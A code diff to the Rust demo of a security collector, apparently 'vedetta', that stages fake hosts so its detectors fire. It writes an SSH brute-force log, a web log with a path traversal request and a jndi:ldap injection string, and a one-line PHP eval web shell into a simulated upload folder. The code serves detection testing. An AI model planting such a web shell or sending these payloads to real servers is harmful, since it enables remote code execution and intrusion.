@@ -1,11 +1,15 @@
 //! `vedetta-collector demo`: the quick start. A collector with its embedded database in a
 //! local folder, one agent for each of three organisations enrolled over real QUIC on
-//! loopback, and signals flowing through each agent's real spool and uplink.
+//! loopback, each running its real sources and detectors on a small host of its own:
 //!
-//! This first version scripts the agents' signals (a brute force from one address seen
-//! by all three organisations, plus local noise): the log, file and network detectors
-//! that will produce them for real arrive with the sensing issues, and the demo grows
-//! with them.
+//! * an sshd log where the same internet address tries passwords at all three members
+//!   (and, at the bank, finally gets in), with ordinary staff logins around it;
+//! * a web server log with a scanner and exploit attempts (at the municipality);
+//! * a watched tree where the same malware sample is dropped in `/tmp` at all three, and a
+//!   web shell lands in the hospital's web root.
+//!
+//! The collector then holds what the detectors found, and the demo shows the indicators
+//! seen by more than one organisation.
 
 use crate::config::CollectorConfig;
 use crate::enroll::new_token;
@@ -17,10 +21,11 @@ use std::collections::{BTreeMap, BTreeSet};
 use std::path::{Path, PathBuf};
 use std::time::{Duration, Instant};
 use vedetta_agent::config::AgentConfig;
-use vedetta_agent::spool::Spool;
+use vedetta_agent::detect::files as file_rules;
+use vedetta_agent::sources::files::FileSource;
 use vedetta_agent::state::StatePaths;
 use vedetta_common::files::create_private_dir;
-use vedetta_common::{IndicatorType, Severity, Signal, Timestamp};
+use vedetta_common::{IndicatorType, Timestamp};
 
 const MARKER: &str = ".vedetta-demo";
 const ORGS: [(&str, &str); 3] = [
@@ -46,27 +51,165 @@ fn fresh_folder(dir: &Path) -> anyhow::Result<()> {
     Ok(())
 }
 
-fn scripted_signals(org_index: usize) -> Vec<Signal> {
-    let now = Timestamp::now();
-    let minutes_ago = |m: i64| Timestamp(now.0 - m * 60_000_000_000);
-    let mut brute = Signal::new(
-        "ssh_bruteforce",
-        Severity::High,
-        minutes_ago(12 - org_index as i64 * 3),
+/// The same bytes at every member: one hash, one campaign to be.
+const MALWARE_SAMPLE: &[u8] =
+    b"\x7fELF\x02\x01\x01\0vedetta demo sample: a harmless stand-in for a miner dropper\n";
+
+/// An rsyslog (ISO 8601) sshd line, `minutes` before now.
+fn sshd_line(now: Timestamp, seconds_ago: i64, message: &str) -> String {
+    let at = Timestamp(now.0 - seconds_ago * 1_000_000_000);
+    format!(
+        "{} host1 sshd[{}]: {message}\n",
+        at.to_rfc3339(),
+        4000 + seconds_ago
     )
-    .with_indicator(IndicatorType::Ip, ATTACKER)
-    .with_attribute("attempts", 140 + 37 * org_index as i64)
-    .with_attribute("distinct_users", 20 + 5 * org_index as i64)
-    .with_attribute("window_s", 600_i64);
-    brute.last_seen = now;
-    brute.count = 140 + 37 * org_index as u64;
-    brute.mitre = Some("T1110.001".into());
-    let mut local = Signal::new("web_scan", Severity::Medium, minutes_ago(5))
-        .with_indicator(IndicatorType::Ip, format!("198.51.100.{}", 10 + org_index))
-        .with_attribute("distinct_paths", 310_i64);
-    local.count = 412;
-    local.mitre = Some("T1595.003".into());
-    vec![brute, local]
+}
+
+/// The sshd log of one member: staff logins, and the shared attacker's attempts.
+fn auth_log(org_index: usize, now: Timestamp) -> String {
+    let mut log = String::new();
+    log += &sshd_line(
+        now,
+        600,
+        "Accepted publickey for deploy from 10.0.0.5 port 50122 ssh2: ED25519 SHA256:x",
+    );
+    // A typo then the right password: not an attack.
+    log += &sshd_line(
+        now,
+        590,
+        "Failed password for alice from 10.0.0.8 port 50200 ssh2",
+    );
+    log += &sshd_line(
+        now,
+        585,
+        "Accepted password for alice from 10.0.0.8 port 50201 ssh2",
+    );
+    let attempts = 12 + 4 * org_index as i64;
+    for n in 0..attempts {
+        let user = ["root", "admin", "oracle"][n as usize % 3];
+        let invalid = if user == "root" { "" } else { "invalid user " };
+        log += &sshd_line(
+            now,
+            300 - n * 10,
+            &format!(
+                "Failed password for {invalid}{user} from {ATTACKER} port {} ssh2",
+                40000 + n
+            ),
+        );
+    }
+    if org_index == 1 {
+        // At the bank, the attacker finally guesses root's password.
+        log += &sshd_line(
+            now,
+            30,
+            &format!("Accepted password for root from {ATTACKER} port 41000 ssh2"),
+        );
+    }
+    log
+}
+
+/// The web server log of the municipality: ordinary visits, a scanner, exploit attempts.
+fn access_log(now: Timestamp) -> String {
+    let at = time::OffsetDateTime::from_unix_timestamp_nanos(i128::from(now.0))
+        .unwrap_or(time::OffsetDateTime::UNIX_EPOCH);
+    let stamp = format!(
+        "{:02}/{}/{}:{:02}:{:02}:{:02} +0000",
+        at.day(),
+        &format!("{:?}", at.month())[..3],
+        at.year(),
+        at.hour(),
+        at.minute(),
+        at.second()
+    );
+    let mut log = String::new();
+    for n in 0..20 {
+        log += &format!(
+            "192.0.2.{n} - - [{stamp}] \"GET /servizi/{n} HTTP/1.1\" 200 5120 \"-\" \"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\"\n"
+        );
+    }
+    for n in 0..40 {
+        log += &format!(
+            "{SCANNER} - - [{stamp}] \"GET /admin{n}.php HTTP/1.1\" 404 162 \"-\" \"sqlmap/1.8\"\n"
+        );
+    }
+    log += &format!(
+        "{SCANNER} - - [{stamp}] \"GET /cgi-bin/../../../../etc/passwd HTTP/1.1\" 400 162 \"-\" \"sqlmap/1.8\"\n"
+    );
+    log += &format!(
+        "{SCANNER} - - [{stamp}] \"GET /?q=%24%7Bjndi%3Aldap%3A%2F%2F{SCANNER}%2Fa%7D HTTP/1.1\" 200 162 \"-\" \"curl/8.5\"\n"
+    );
+    log
+}
+
+/// The web scanner at the municipality (TEST-NET-2, never routed).
+const SCANNER: &str = "198.51.100.23";
+
+/// One member's host: its logs and watched tree, and the agent configuration for them.
+fn agent_config(agent_dir: &Path) -> String {
+    let host = agent_dir.join("host");
+    format!(
+        "state_dir = \"state\"\n\
+         [uplink]\nheartbeat_interval = \"2s\"\n\
+         [[sources.logs]]\npaths = [\"{logs}/auth.log\"]\nstart_at = \"beginning\"\n\
+         [[sources.logs]]\npaths = [\"{logs}/access.log\"]\nformat = \"nginx\"\nstart_at = \"beginning\"\n\
+         [sources.files]\npaths = [\"{host}\"]\nweb_roots = [\"{host}/var/www\"]\ndrop_dirs = [\"{host}/tmp\"]\n",
+        logs = agent_dir.join("logs").display(),
+        host = host.display(),
+    )
+}
+
+/// Lays out one member's host, builds its file baseline (as at installation), then
+/// plays the incident: the logs fill, the sample and a web shell arrive.
+fn stage_host(agent_dir: &Path, config: &AgentConfig, org_index: usize) -> anyhow::Result<()> {
+    let host = agent_dir.join("host");
+    for sub in ["etc/ssh", "tmp", "var/www/html/upload"] {
+        std::fs::create_dir_all(host.join(sub))?;
+    }
+    std::fs::write(host.join("etc/ssh/sshd_config"), "PermitRootLogin no\n")?;
+    std::fs::write(host.join("var/www/html/index.html"), "<h1>Benvenuti</h1>\n")?;
+    let files = config
+        .sources
+        .files
+        .as_ref()
+        .context("the demo configuration watches files")?;
+    let rules = file_rules::load(None).map_err(|e| anyhow::anyhow!("{e:?}"))?;
+    FileSource::open(files, &StatePaths::new(&config.state_dir).dir, rules)?.build()?;
+
+    let logs = agent_dir.join("logs");
+    std::fs::create_dir_all(&logs)?;
+    let now = Timestamp::now();
+    std::fs::write(logs.join("auth.log"), auth_log(org_index, now))?;
+    let access = if org_index == 0 {
+        access_log(now)
+    } else {
+        String::new()
+    };
+    std::fs::write(logs.join("access.log"), access)?;
+    let sample = host.join("tmp/.x11-cache");
+    std::fs::write(&sample, MALWARE_SAMPLE)?;
+    use std::os::unix::fs::PermissionsExt as _;
+    std::fs::set_permissions(&sample, std::fs::Permissions::from_mode(0o755))?;
+    if org_index == 2 {
+        std::fs::write(
+            host.join("var/www/html/upload/thumb.php"),
+            "<?php @eval(base64_decode($_POST['k'])); ?>\n",
+        )?;
+    }
+    Ok(())
+}
+
+/// What the detectors must have reported before the picture is shown: (org, kind).
+fn expected() -> BTreeSet<(&'static str, &'static str)> {
+    let mut expected = BTreeSet::new();
+    for (org, _) in ORGS {
+        expected.insert((org, "ssh_bruteforce"));
+        expected.insert((org, "suspicious_file"));
+    }
+    expected.insert((ORGS[1].0, "ssh_login_after_failures"));
+    expected.insert((ORGS[0].0, "web_scan"));
+    expected.insert((ORGS[0].0, "web_exploit_attempt"));
+    expected.insert((ORGS[2].0, "webshell_suspected"));
+    expected
 }
 
 /// Runs the demo; with `exit_when_done`, returns once the picture is printed.
@@ -105,10 +248,7 @@ pub fn run(data_dir: Option<PathBuf>, exit_when_done: bool) -> anyhow::Result<()
             let agent_dir = dir.join(format!("agent-{org}"));
             let config_path = agent_dir.join("agent.toml");
             create_private_dir(&agent_dir)?;
-            std::fs::write(
-                &config_path,
-                "state_dir = \"state\"\n[uplink]\nheartbeat_interval = \"2s\"\n",
-            )?;
+            std::fs::write(&config_path, agent_config(&agent_dir))?;
             let config = AgentConfig::load(&config_path)?;
             let paths = StatePaths::new(&config.state_dir);
             let enrollment = vedetta_agent::enroll::enroll(
@@ -121,8 +261,7 @@ pub fn run(data_dir: Option<PathBuf>, exit_when_done: bool) -> anyhow::Result<()
             .await
             .with_context(|| format!("enrolling the agent of {org}"))?;
             println!("  enrolled agent {} for {name}", enrollment.agent_id);
-            // The scripted detections go through the agent's real spool and uplink.
-            Spool::open(&paths.spool, config.spool.max_signals)?.push(&scripted_signals(index))?;
+            stage_host(&agent_dir, &config, index)?;
             let mut stop = stop_agents.subscribe();
             agents.push(tokio::spawn(vedetta_agent::run::run(
                 config,
@@ -133,24 +272,29 @@ pub fn run(data_dir: Option<PathBuf>, exit_when_done: bool) -> anyhow::Result<()
             )));
         }
 
-        let expected = ORGS.len() * 2;
-        let deadline = Instant::now() + Duration::from_secs(30);
+        let expected = expected();
+        let deadline = Instant::now() + Duration::from_secs(60);
         let database = database_path(&collector_dir);
-        let scripted = |store: &mut SqliteStore| -> anyhow::Result<usize> {
+        let found = |store: &mut SqliteStore| -> anyhow::Result<BTreeSet<(String, String)>> {
             let all = store.signals(&SignalFilter {
                 limit: 10_000,
                 ..SignalFilter::default()
             })?;
-            Ok(all
-                .iter()
-                .filter(|s| s.signal.kind != "agent_health")
-                .count())
+            Ok(all.into_iter().map(|s| (s.org, s.signal.kind)).collect())
         };
         let mut reader = SqliteStore::open(&database)?;
-        while scripted(&mut reader)? < expected {
+        loop {
+            let found = found(&mut reader)?;
+            let missing: Vec<_> = expected
+                .iter()
+                .filter(|(org, kind)| !found.contains(&((*org).to_owned(), (*kind).to_owned())))
+                .collect();
+            if missing.is_empty() {
+                break;
+            }
             anyhow::ensure!(
                 Instant::now() < deadline,
-                "signals did not arrive within 30 s"
+                "the detections did not all arrive within 60 s; missing {missing:?}"
             );
             tokio::time::sleep(Duration::from_millis(100)).await;
         }
@@ -180,7 +324,7 @@ fn print_picture(store: &mut SqliteStore) -> anyhow::Result<()> {
         "\nSignals stored by the collector (org and agent taken from each agent's certificate):"
     );
     println!(
-        "  {:<18} {:<22} {:<10} {:>6}  indicator",
+        "  {:<18} {:<26} {:<10} {:>6}  indicator",
         "org", "kind", "severity", "count"
     );
     for stored in signals.iter().filter(|s| s.signal.kind != "agent_health") {
@@ -191,29 +335,29 @@ fn print_picture(store: &mut SqliteStore) -> anyhow::Result<()> {
             .map(|i| i.value.as_str())
             .unwrap_or("-");
         println!(
-            "  {:<18} {:<22} {:<10} {:>6}  {indicator}",
+            "  {:<18} {:<26} {:<10} {:>6}  {indicator}",
             stored.org, stored.signal.kind, stored.signal.severity, stored.signal.count
         );
     }
-    let mut orgs_by_address: BTreeMap<&str, BTreeSet<&str>> = BTreeMap::new();
+    let mut orgs_by_indicator: BTreeMap<(&str, &str), BTreeSet<&str>> = BTreeMap::new();
     for stored in &signals {
         for indicator in stored
             .signal
             .indicators
             .iter()
-            .filter(|i| i.kind == IndicatorType::Ip)
+            .filter(|i| matches!(i.kind, IndicatorType::Ip | IndicatorType::Sha256))
         {
-            orgs_by_address
-                .entry(&indicator.value)
+            orgs_by_indicator
+                .entry((indicator.kind.as_str(), &indicator.value))
                 .or_default()
                 .insert(&stored.org);
         }
     }
-    println!("\nAddresses seen by more than one organisation:");
-    for (address, orgs) in orgs_by_address.iter().filter(|(_, orgs)| orgs.len() > 1) {
+    println!("\nIndicators seen by more than one organisation:");
+    for ((kind, value), orgs) in orgs_by_indicator.iter().filter(|(_, orgs)| orgs.len() > 1) {
         let orgs: Vec<&str> = orgs.iter().copied().collect();
         println!(
-            "  {address} — {} organisations: {}",
+            "  {kind} {value} — {} organisations: {}",
             orgs.len(),
             orgs.join(", ")
         );
